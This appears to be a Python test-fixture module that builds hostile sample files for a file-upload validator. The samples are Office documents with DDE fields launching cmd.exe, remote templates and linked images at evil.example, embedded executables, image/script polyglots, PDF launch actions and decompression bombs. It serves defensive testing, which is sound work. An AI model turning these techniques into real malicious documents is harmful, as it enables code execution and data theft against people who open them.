"""Files that run or fetch something when they are opened, or that are two types at once; see also `sample_files`."""

import io
import struct
import zipfile
import zlib

from ..pictures import huge_png
from ..sample_files import GIF, HTML, JPEG, PDF, compound, docx, ole, png, png_chunk, webp
from .office_files import (
    PART,
    W,
    document,
    excel,
    field,
    linked,
    powerpoint,
    relations,
    with_settings,
    word,
)

PROGRAM = b"MZ\x90\0" + b"\0" * 60
DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
SCRIPT = b"*/=1;alert(document.domain)//"


def embedding(name: str, content: bytes, kind: str = "package") -> bytes:
    return word(relationships=((kind, f"embeddings/{name}"),), members={f"word/embeddings/{name}": content})


def nested(depth: int) -> bytes:
    return embedding("a.docx", nested(depth - 1)) if depth else word()


def link_part(text: str) -> bytes:
    name = "xl/externalLinks/externalLink1.xml"
    return excel(types={name: PART["link"]}, members={name: f"<externalLink>{text}</externalLink>".encode()})


def packed_by(method: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as source, zipfile.ZipFile(buffer, "w", method) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return buffer.getvalue()


def record(number: int, content: bytes) -> bytes:
    return struct.pack("<HH", number, len(content)) + content


def pdf(*objects: bytes, before: bytes = b"%PDF-1.7\n", after: bytes = b"") -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, text) for n, text in enumerate(objects, 1))
    return before + body + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n" + after


def stream(content: bytes, dictionary: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (dictionary, len(content), content)


FRAME = b",\0\0\0\0\1\0\1\0"
LAUNCH = b"<</Type/Action/S/Launch/F(cmd.exe)>>"
PACKED_LAUNCH = stream(zlib.compress(b"5 0 " + LAUNCH), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
SHEET_OF_MACROS = record(0x85, struct.pack("<IBBBB", 700, 0, 1, 6, 0) + b"Macro1")
LINKED_PROGRAM = record(0x1AE, struct.pack("<HHB", 1, 17, 0) + b"cmd\x03/c calc.exe 123")

OFFICE = {
    "a template of a site": with_settings(("attachedTemplate", "https://evil.example/t.dotm")),
    "a template of a share": with_settings(("attachedTemplate", r"\\evil.example\share\t.dotm")),
    "a template of a share as a file": with_settings(("attachedTemplate", "file://evil.example/share/t.dotm")),
    "a template of a share, escaped": with_settings(("attachedTemplate", "file:///%5C%5Cevil.example/share/t.dotm")),
    "a template by entities": with_settings(("attachedTemplate", "&#104;ttps:&#47;/evil.example/t.dotm")),
    "a template by another scheme": with_settings(("attachedTemplate", "mhtml:https://evil.example/t!x")),
    "a template without a mode": word(
        members={
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", "x:y")).replace(b"x:y", b"//evil.example/t"),
        }
    ),
    "relationships with a decoy": word(
        members={
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/t")).replace(
                b"<Relationship ", b'<Relationship Other=\' Target="t.dotx" Type="a/hyperlink"\' '
            ),
        }
    ),
    "a frame": linked("frame", "https://evil.example/f.htm"),
    "a picture of a site": linked("image", "https://evil.example/1x1.png"),
    "a picture of a share": linked("image", r"\\evil.example\share\a.png"),
    "a picture by SMB": linked("image", "smb://evil.example/a.png"),
    "a linked object": linked("oleObject", "file:///C:\\a.xlsx"),
    "an object": embedding("oleObject1.bin", ole("\x01Ole10Native"), "oleObject"),
    "an object as a package": embedding("oleObject1.bin", ole("\x01Ole10Native")),
    "an object as a thing without an ending": embedding("thing", ole("\x01Ole10Native")),
    "a program": embedding("setup.exe", PROGRAM),
    "a program as a printer's settings": embedding("printerSettings1.bin", PROGRAM),
    "a program as a picture": embedding("image1.png", PROGRAM),
    "a script": embedding("a.js", b"WScript.Echo(1)"),
    "an archive": embedding("a.dat", docx()),
    "a document with macros": embedding("a.docm", docx()),
    "a document with a macro project": embedding("a.docx", docx(word__vbaProject_dot_bin=b"macro")),
    "a document with a remote template": embedding("a.docx", linked("attachedTemplate", "https://evil.example/t")),
    "an old document with macros": embedding("a.doc", ole("WordDocument", "Macros")),
    "slides with an object": embedding("a.pptx", powerpoint({"ppt/embeddings/a.exe": PROGRAM})),
    "documents in documents": embedding(
        "a.docx", embedding("b.docx", embedding("c.docx", embedding("d.docx", docx())))
    ),
    "a page that becomes part of it": linked("aFChunk", "page.mht"),
    "a part of another server": linked("subDocument", r"\\evil.example\a.docx"),
    "a control": linked("control", "control1.xml"),
    "a macro project under another name": linked("vbaProject", "media/a.dat"),
    "DDE": word(field(DDE)),
    "DDE in pieces": word(field(" D", "DEAU", "TO c:\\\\cmd.exe")),
    "DDE in small letters": word(field(' "ddeauto" c:\\\\cmd.exe')),
    "DDE by entities": word(field("&#x44;&#68;E c:\\\\cmd.exe")),
    "DDE behind blanks": word(field("&#32;" * 60, DDE)),
    "DDE in a simple field": word(f"<w:fldSimple w:dirty='>' w:instr='{DDE}'/>"),
    "DDE around another field": word(field("DDE").replace("</w:instrText>", f"</w:instrText>{field('PAGE')}", 1)),
    "DDE in CDATA": word(field(f"<![CDATA[{DDE}]]>")),
    "DDE beside a comment": word(field(f"<!-- -->{DDE}")),
    "DDE by another prefix": word(main=document(field(DDE)).replace(b"w:", b"x:")),
    "DDE without a prefix": word(main=document(field(DDE)).replace(b"w:instr", b"instr")),
    "DDE in UTF-16": word(main=document(field(DDE), head="", encoding="utf-16")),
    "DDE in UTF-7": word(main=document(head='<?xml version="1.0" encoding="UTF-7"?>')),
    "DDE by an entity of its own": word(main=document(field("&a;"), head=f'<!DOCTYPE a [<!ENTITY a "{DDE}">]>')),
    "DDE with a decoy": word(field(DDE).replace('w:fldCharType="begin"', 'x:fldCharType="end" w:fldCharType="begin"')),
    "DDE in a header": word(
        types={"word/header1.xml": PART["header"]},
        members={"word/header1.xml": f"<w:hdr {W}>{field(DDE)}</w:hdr>".encode()},
    ),
    "DDE in a part of another ending": word(
        types={"word/h.dat": PART["header"]}, members={"word/h.dat": document(field(DDE))}
    ),
    "very many fields": word(field("PAGE") * 40_000),
}
WORKBOOKS = {
    "a link to a program": link_part('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    "a link to an object": link_part('<oleLink progId="Package"/>'),
    "a formula that starts a program": excel("<c r='A1'><f>cmd|' /C calc'!A0</f></c>"),
    "a formula by entities": excel("<c r='A1'><f ca='1'>MSEXCEL&#124;'\\..\\cmd.exe'!'1'</f></c>"),
    "a formula far down": excel("<c><f>1+1</f></c>" * 100_000 + "<c><f>&quot;a&quot;&amp;cmd|x!A0</f></c>"),
    "a name that starts a program": excel(
        names="<definedNames><definedName>cmd|' /C calc'!A0</definedName></definedNames>"
    ),
}
HOSTILE = {
    **{f"a Word file with {label}": ("a.docx", content) for label, content in OFFICE.items()},
    **{f"a workbook with {label}": ("a.xlsx", content) for label, content in WORKBOOKS.items()},
    "a DOCX packed by bzip2": ("a.docx", packed_by(zipfile.ZIP_BZIP2)),
    "a DOCX packed by LZMA": ("a.docx", packed_by(zipfile.ZIP_LZMA)),
    "a DOCX with a very long part": ("a.docx", word("<w:p/>" * 8_000_000, members={"word/media/a.png": b"\1" * 10**6})),
    "a DOC with an embedded file": ("a.doc", ole("WordDocument", "ObjectPool", "\x01Ole10Native")),
    "a DOC with DDE": ("a.doc", compound(b"text \x13 DDEAUTO c:\\cmd.exe \x14", "WordDocument")),
    "a DOC with DDE in UTF-16": ("a.doc", compound("\x13 DDE c:\\cmd".encode("utf-16-le"), "WordDocument")),
    "a DOC with macros in small letters": ("a.doc", ole("WordDocument", "macros")),
    "an XLS with a sheet of macros": ("a.xls", compound(SHEET_OF_MACROS, "Workbook")),
    "an XLS with a link to a program": ("a.xls", compound(LINKED_PROGRAM, "Workbook")),
    "a GIF that is a script": ("a.gif", b"GIF89a/*" + GIF[8:-1] + b"!\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0;"),
    "a GIF that is an assignment": ("a.gif", b"GIF89a='" + GIF[8:]),
    "a GIF with a page in a comment": ("a.gif", GIF[:-1] + b"!\xfe\x0a<script >.\0;"),
    "a GIF with more behind it": ("a.gif", GIF + b"alert(1);"),
    "a GIF of one endless block": ("a.gif", GIF[:-1] + b"!\xfe" + b"\1a" * 200_000 + b"\0;"),
    "a JPEG that is a script": ("a.jpg", JPEG[:4] + b"/*" + b"\0" * 12072 + SCRIPT + JPEG[20:]),
    "a WebP that is a script": ("a.webp", webp((webp()[12:] + SCRIPT).ljust(0x2A2B, b"\0"))),
    "a PNG of 60,000 by 60,000": ("a.png", huge_png(60_000, 60_000)),
    "a GIF of 60,000 by 60,000": ("a.gif", GIF[:6] + b"\x60\xea\x60\xea" + GIF[10:]),
    "a GIF with a frame of 60,000 by 60,000": (
        "a.gif",
        GIF.replace(b",\0\0\0\0\1\0\1\0", b",\0\0\0\0\x60\xea\x60\xea"),
    ),
    "a JPEG of 60,000 by 60,000": ("a.jpg", JPEG.replace(b"\x08\0\1\0\1", b"\x08\xea\x60\xea\x60")),
    "a WebP of 16,384 by 16,384": ("a.webp", webp(b"VP8L\x05\0\0\0\x2f\xff\xff\xff\x0f\0"[:17])),
    "a JPEG without a frame": ("a.jpg", b"\xff\xd8\xff\xd9"),
    "a PNG with a page in it": ("a.png", png(png_chunk(b"tEXt", b"Comment\0" + HTML))),
    "a PDF with a page in its head": ("a.pdf", pdf(before=b"%PDF-1.4\n" + HTML)),
    "a PDF with a page between objects": ("a.pdf", pdf(b"<<>>", HTML, before=b"%PDF-1.4\n" + b"% " * 600)),
    "a PDF with a page behind it": ("a.pdf", pdf(after=b"<script>alert(1)</script>\n%%EOF")),
    "a PDF with a script before it": ("a.pdf", b"x=1;/*\n" + PDF + b"*/"),
    "a PDF with a page in its first stream": ("a.pdf", pdf(stream(HTML))),
    "a PDF that starts a program": ("a.pdf", pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", LAUNCH)),
    "a PDF that starts a program, escaped": ("a.pdf", pdf(LAUNCH.replace(b"/Launch", b"/L#61unc#68"))),
    "a PDF that starts a program, packed": ("a.pdf", pdf(PACKED_LAUNCH)),
    "a PDF that starts a program, hidden": ("a.pdf", pdf(b"%stream\n" + LAUNCH + b"\n%endstream")),
    "a PDF with a program": ("a.pdf", pdf(stream(zlib.compress(PROGRAM), b"/Type/EmbeddedFile/Filter/FlateDecode"))),
    "a PDF with a script by its name": (
        "a.pdf",
        pdf(b"<</F (invoice.js)/EF<</F 2 0 R>>>>", stream(b"1")),
    ),
    "a PDF that unpacks to much": (
        "a.pdf",
        pdf(stream(zlib.compress(b"\0" * 40_000_000), b"/Type/ObjStm/Filter/FlateDecode")),
    ),
    "a PDF of no version": ("a.pdf", PDF.replace(b"1.4", b"x.y")),
}
